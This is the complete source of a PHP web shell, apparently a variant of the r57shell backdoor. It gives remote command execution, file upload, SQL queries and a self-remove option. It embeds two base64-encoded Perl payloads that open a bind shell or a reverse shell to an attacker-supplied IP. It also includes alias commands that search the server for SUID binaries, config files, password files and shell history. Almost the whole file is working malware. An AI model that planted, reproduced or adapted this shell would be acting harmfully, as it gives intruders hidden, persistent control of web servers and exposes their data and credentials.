<?php
/******************************************************************************************************/
/*  r57shell - r57 private                                                                                */
/******************************************************************************************************/
$version = "1.40";
$language = "ru";
$auth = 1;
$name = 'admin';
$pass = '098f6bcd4621d373cade4e832627b4f6';
@ini_set('max_execution_time', 0);
@set_time_limit(0);
@ini_set('output_buffering', 0);
error_reporting(0);
$safe_mode = @ini_get('safe_mode');
$open_basedir = @ini_get('open_basedir');
if ($auth == 1) {
    if (!isset($_SERVER['PHP_AUTH_USER']) || md5($_SERVER['PHP_AUTH_USER']) !== md5($name) || md5($_SERVER['PHP_AUTH_PW']) !== $pass) {
        header('WWW-Authenticate: Basic realm="r57shell"');
        header('HTTP/1.0 401 Unauthorized');
        exit("<b>Access Denied</b>");
    }
}
$lang = array(
    'ru_text1' => 'Выполненная команда',
    'ru_text2' => 'Выполнение команд на сервере',
    'ru_text3' => 'Выполнить команду',
    'ru_text4' => 'Рабочая директория',
    'eng_text1' => 'Executed command',
    'eng_text2' => 'Execute command on server',
    'eng_text3' => 'Run command',
    'eng_text4' => 'Work directory',
    'eng_text5' => 'Upload files on server',
    'eng_text6' => 'Local file',
    'eng_text7' => 'Aliases',
    'eng_text8' => 'Select alias',
    'eng_text9' => 'Bind port to /bin/bash',
    'eng_text10' => 'Port',
    'eng_text11' => 'Password for access',
    'eng_text12' => 'back-connect',
    'eng_text13' => 'IP',
    'eng_text29' => 'Self remove',
    'eng_text41' => 'Run SQL query',
);
$aliases = array(
    'find suid files' => 'find / -type f -perm -04000 -ls',
    'find sgid files' => 'find / -type f -perm -02000 -ls',
    'find config.inc.php files' => 'find / -type f -name config.inc.php',
    'find config* files' => 'find / -type f -name "config*"',
    'find all writable directories and files' => 'find / -perm -2 -ls',
    'find all service.pwd files' => 'find / -type f -name service.pwd',
    'find .bash_history files' => 'find / -type f -name .bash_history',
    'locate httpd.conf files' => 'locate httpd.conf',
    'show opened ports' => 'netstat -an | grep -i listen',
    'show computer info' => 'uname -a; id; w',
);
$p_bindport = "IyEvdXNyL2Jpbi9wZXJsCnVzZSBTb2NrZXQ7CiRwb3J0PSRBUkdWWzBdOwokcHJvdG89Z2V0cHJvdG9ieW5hbWUoJ3RjcCcpOwpzb2NrZXQoUyxQRl9JTkVULFNPQ0tfU1RSRUFNLCRwcm90bykgfHwgZGllICJzb2NrZXQiOwpzZXRzb2Nrb3B0KFMsU09MX1NPQ0tFVCxTT19SRVVTRUFERFIsMSk7CmJpbmQoUyxzb2NrYWRkcl9pbigkcG9ydCxJTkFERFJfQU5ZKSkgfHwgZGllICJiaW5kIjsKbGlzdGVuKFMsMykgfHwgZGllICJsaXN0ZW4iOwp3aGlsZSgxKXthY2NlcHQoQ09OTixTKTtpZighKCRwaWQ9Zm9yaykpe29wZW4gU1RESU4sIjwmQ09OTiI7b3BlbiBTVERPVVQsIj4mQ09OTiI7b3BlbiBTVERFUlIsIj4mQ09OTiI7ZXhlYyAiL2Jpbi9zaCAtaSI7Y2xvc2UgQ09OTjtleGl0IDA7fX0K";
$p_backconn = "IyEvdXNyL2Jpbi9wZXJsCnVzZSBTb2NrZXQ7CiRjbWQ9ICJseW54IjsKJHN5c3RlbT0gJ2VjaG8gImB1bmFtZSAtYWAiO2VjaG8gImBpZGAiOy9iaW4vc2gnOwokdGFyZ2V0PSRBUkdWWzBdOwokcG9ydD0kQVJHVlsxXTsKJGlhZGRyPWluZXRfYXRvbigkdGFyZ2V0KSB8fCBkaWUoIkVycm9yOiAkISIpOwokcGFkZHI9c29ja2FkZHJfaW4oJHBvcnQsICRpYWRkcikgfHwgZGllKCJFcnJvcjogJCEiKTsKJHByb3RvPWdldHByb3RvYnluYW1lKCd0Y3AnKTsKc29ja2V0KFNPQ0tFVCwgUEZfSU5FVCwgU09DS19TVFJFQU0sICRwcm90bykgfHwgZGllKCJFcnJvcjogJCEiKTsKY29ubmVjdChTT0NLRVQsICRwYWRkcikgfHwgZGllKCJFcnJvcjogJCEiKTsKb3BlbihTVERJTiwgIj4mU09DS0VUIik7b3BlbihTVERPVVQsICI+JlNPQ0tFVCIpO29wZW4oU1RERVJSLCAiPiZTT0NLRVQiKTsKc3lzdGVtKCRzeXN0ZW0pOwo=";
function ex($cfe) {
    $res = '';
    if (!empty($cfe)) {
        if (function_exists('exec')) { @exec($cfe, $res); $res = join("\n", $res); }
        elseif (function_exists('shell_exec')) { $res = @shell_exec($cfe); }
        elseif (function_exists('system')) { @ob_start(); @system($cfe); $res = @ob_get_contents(); @ob_end_clean(); }
        elseif (function_exists('passthru')) { @ob_start(); @passthru($cfe); $res = @ob_get_contents(); @ob_end_clean(); }
        elseif (@is_resource($f = @popen($cfe, "r"))) { $res = ""; while (!@feof($f)) { $res .= @fread($f, 1024); } @pclose($f); }
    }
    return $res;
}
function which($pr) {
    $path = ex("which $pr");
    if (!empty($path)) { return $path; } else { return $pr; }
}
function perms($mode) {
    if (($mode & 0xC000) === 0xC000) { $t = 's'; } elseif (($mode & 0x4000) === 0x4000) { $t = 'd'; } else { $t = '-'; }
    $o = (($mode & 0x0100) ? 'r' : '-') . (($mode & 0x0080) ? 'w' : '-') . (($mode & 0x0040) ? 'x' : '-');
    $g = (($mode & 0x0020) ? 'r' : '-') . (($mode & 0x0010) ? 'w' : '-') . (($mode & 0x0008) ? 'x' : '-');
    $w = (($mode & 0x0004) ? 'r' : '-') . (($mode & 0x0002) ? 'w' : '-') . (($mode & 0x0001) ? 'x' : '-');
    return $t . $o . $g . $w;
}
function cf($fname, $text) {
    $w_file = @fopen($fname, "w") or die("Can't create file");
    @fputs($w_file, @base64_decode($text));
    @fclose($w_file);
}
$dir = isset($_POST['dir']) ? $_POST['dir'] : @getcwd();
@chdir($dir);
echo "<html><head><title>r57shell</title></head><body bgcolor=#000000 text=#c0c0c0>";
echo "<b>" . php_uname() . "</b><br>safe_mode: " . ($safe_mode ? 'ON' : 'OFF') . " open_basedir: " . $open_basedir . "<br>";
if (!empty($_POST['cmd']) && $_POST['cmd'] == "db_query") {
    $db = @mysqli_connect($_POST['db_server'], $_POST['mysql_l'], $_POST['mysql_p'], $_POST['mysql_db']);
    $q = @mysqli_query($db, $_POST['db_query']);
    while ($row = @mysqli_fetch_row($q)) { echo htmlspecialchars(implode("\t", $row)) . "<br>"; }
}
elseif (!empty($_POST['cmd']) && $_POST['cmd'] == "bind") {
    cf("/tmp/bp.pl", $p_bindport);
    $p2 = which("perl");
    ex($p2 . " /tmp/bp.pl " . $_POST['port'] . " &");
    echo "<pre>" . ex("ps -aux | grep bp") . "</pre>";
}
elseif (!empty($_POST['cmd']) && $_POST['cmd'] == "backconnect") {
    cf("/tmp/back", $p_backconn);
    ex(which("perl") . " /tmp/back " . $_POST['ip'] . " " . $_POST['port'] . " &");
}
elseif (!empty($_POST['cmd']) && $_POST['cmd'] == "selfremove") {
    @unlink(__FILE__);
    die("removed");
}
elseif (!empty($_FILES['userfile']['tmp_name'])) {
    @move_uploaded_file($_FILES['userfile']['tmp_name'], $_POST['dir'] . "/" . $_FILES['userfile']['name']);
}
elseif (!empty($_POST['cmd'])) {
    echo "<b>" . $lang[$language . '_text1'] . ": " . htmlspecialchars($_POST['cmd']) . "</b><br><textarea cols=120 rows=20>";
    echo htmlspecialchars(ex($_POST['cmd']));
    echo "</textarea>";
}
echo "<form method=POST><b>" . $lang[$language . '_text3'] . "</b> <input name=cmd size=80><input name=dir value='" . htmlspecialchars($dir) . "'><input type=submit></form>";
echo "<form method=POST><b>" . $lang[$language . '_text7'] . "</b><select name=cmd>";
foreach ($aliases as $k => $v) { echo "<option value='" . htmlspecialchars($v) . "'>" . $k . "</option>"; }
echo "</select><input type=submit></form>";
echo "<form enctype=multipart/form-data method=POST>" . $lang[$language . '_text5'] . " <input type=file name=userfile><input name=dir value='" . htmlspecialchars($dir) . "'><input type=submit></form>";
echo "<form method=POST>" . $lang[$language . '_text9'] . " <input name=port value=11457><input type=hidden name=cmd value=bind><input type=submit></form>";
echo "</body></html>";
?>
